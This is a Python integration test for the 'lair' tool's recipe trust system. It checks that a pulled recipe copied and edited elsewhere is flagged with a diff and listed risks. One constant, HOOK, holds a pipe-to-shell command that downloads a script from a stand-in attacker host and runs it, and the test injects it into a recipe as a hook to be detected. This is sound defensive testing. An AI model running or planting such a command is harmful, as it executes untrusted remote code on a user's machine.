"""A recipe pulled from a real ``lair serve`` keeps its provenance in the file (``[meta.source]``):
planned in place, copied elsewhere and edited, it stays untrusted from its registry revision, and an
edit asks again with the diff against what was accepted. Deleting the stamp is the user's own act."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tomllib
from collections.abc import Iterator
from pathlib import Path

import pytest

from lair.recipe import load_recipe
from lair.recipe.digest import model_sha256
from lair.testing.registry import serve_process

pytestmark = [pytest.mark.integration]

TINY = Path(__file__).resolve().parents[3] / "examples" / "tiny-cpu" / "recipe.toml"
HOOK = "curl -s http://evil.example/x | sh"


@pytest.fixture
def registry(tmp_path: Path) -> Iterator[str]:
    with serve_process(str(tmp_path / "registry.db")) as base:  # seeded with the bundled examples
        yield base


def _lair(home: Path, base: str, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "LAIR_HOME": str(home), "LAIR_REGISTRY": base, "NO_COLOR": "1"}
    return subprocess.run(
        [sys.executable, "-m", "lair", *args],
        capture_output=True,
        text=True,
        env=env,
        stdin=subprocess.DEVNULL,
        timeout=120,
    )


def _trust_error(res: subprocess.CompletedProcess[str]) -> dict[str, object]:
    assert res.returncode == 1, res.stderr
    error = json.loads(res.stdout)["error"]
    assert isinstance(error, dict) and error["code"] == "trust"
    return error


def test_a_pulled_recipe_copied_and_edited_asks_again_with_the_diff(registry: str, tmp_path: Path) -> None:
    home = tmp_path / "home"
    pulled = tmp_path / "pulled" / "tiny.toml"
    pulled.parent.mkdir()
    res = _lair(home, registry, "pull", "tiny-cpu@1", "-o", str(pulled), "--json")
    assert res.returncode == 0, res.stderr
    doc = json.loads(res.stdout)
    stamp = tomllib.loads(pulled.read_text())["meta"]["source"]
    assert {k: stamp[k] for k in ("registry", "slug", "revision", "sha256")} == {
        "registry": registry,
        "slug": "tiny-cpu",
        "revision": 1,
        "sha256": doc["sha256"],
    }
    # the stamp is no part of the digest: the pulled file is still exactly the revision
    assert model_sha256(load_recipe(pulled)) == doc["sha256"] == model_sha256(load_recipe(TINY))
    source = f"{registry}/recipes/tiny-cpu@1"

    error = _trust_error(_lair(home, registry, "plan", str(pulled), "--json"))
    assert f"this recipe from {source} is not trusted" in str(error["message"])
    assert _lair(home, registry, "plan", str(pulled), "--accept", "--json").returncode == 0
    assert _lair(home, registry, "plan", str(pulled), "--json").returncode == 0  # accepted

    copy = tmp_path / "elsewhere" / "mine.toml"  # no sidecar, other bytes: only the stamp tells
    copy.parent.mkdir()
    text = pulled.read_text().replace(
        "[placeholders.MODEL_DIR]", f'after_stop = ["{HOOK}"]\n\n[placeholders.MODEL_DIR]'
    )
    copy.write_text(text)
    error = _trust_error(_lair(home, registry, "plan", str(copy), "--json"))
    assert error["diff"] == [f"+ after_stop: sh -c {HOOK}"]
    assert f"hook sh -c {HOOK} (after_stop, runs on the node itself)" in error["risks"]  # type: ignore[operator]
    assert f"this recipe from {source} is not trusted" in str(error["message"])

    shutil.copy(pulled, copy)  # the copy as pulled again: the acceptance of the revision holds
    assert _lair(home, registry, "plan", str(copy), "--json").returncode == 0

    # the documented boundary: a user who deletes the stamp of a local file makes it their own
    own = tmp_path / "own.toml"
    lines = text.splitlines(keepends=True)
    start = lines.index("[meta.source]\n")
    end = next(i for i in range(start + 1, len(lines)) if lines[i].startswith("["))
    own.write_text("".join(lines[:start] + lines[end:]))
    res = _lair(home, registry, "plan", str(own), "--json")
    assert res.returncode == 0 and json.loads(res.stdout)["run"]["trusted"] is True, res.stderr
